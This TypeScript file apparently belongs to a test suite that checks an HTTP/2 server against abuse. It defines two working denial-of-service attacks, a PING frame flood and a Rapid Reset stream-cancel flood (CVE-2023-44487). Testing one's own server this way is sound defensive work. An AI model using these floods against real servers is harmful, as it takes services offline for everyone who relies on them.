import { constants } from 'node:http2';
import type { Socket } from 'node:net';

import { GREETING, PING_FRAME } from '../../../mesh/door/support/raw-peer.ts';
import { type Attack, scaled } from './attack.ts';
import { answeredPing, begin, lastingSession, openSocket } from './peers.ts';

const PINGS = 200_000;
const PINGS_AT_ONCE = 1_000;
const RESETS = 10_000;
const RESETS_AT_ONCE = 100;

/** Pings, a thousand at a time, each time those before are answered; on a new connection when the last one is closed. */
export const pingFlood: Attack = {
  name: 'ping flood',
  async run(target) {
    const pings = Buffer.concat(Array.from({ length: PINGS_AT_ONCE }, () => PING_FRAME));
    let socket = await greet(target.port);
    for (let left = scaled(PINGS, target); left > 0; left -= PINGS_AT_ONCE) {
      if (socket.closed) socket = await greet(target.port);
      const answered = heardOf(socket, pings.length);
      socket.write(pings);
      await answered;
    }
    socket.destroy();
  },
};

async function greet(port: number): Promise<Socket> {
  const socket = await openSocket(port);
  socket.resume().write(GREETING);
  return socket;
}

/** Resolves once so many bytes have come, or the connection is closed. */
function heardOf(socket: Socket, bytes: number): Promise<void> {
  const enough = socket.bytesRead + bytes;
  return new Promise((resolve) => {
    const listen = (): void => {
      if (socket.bytesRead < enough && !socket.closed) return;
      socket.off('data', listen).off('close', listen);
      resolve();
    };
    socket.on('data', listen).on('close', listen);
    if (socket.closed) listen();
  });
}

/** Calls that are reset as soon as they have begun (CVE-2023-44487), as fast as the server takes them. */
export const resetFlood: Attack = {
  name: 'reset flood',
  async run(target) {
    const session = lastingSession(target.port);
    for (let left = scaled(RESETS, target); left > 0; left -= RESETS_AT_ONCE) {
      const current = await session();
      for (let one = 0; one < RESETS_AT_ONCE; one += 1) begin(current)?.close(constants.NGHTTP2_CANCEL);
      await answeredPing(current);
    }
  },
};
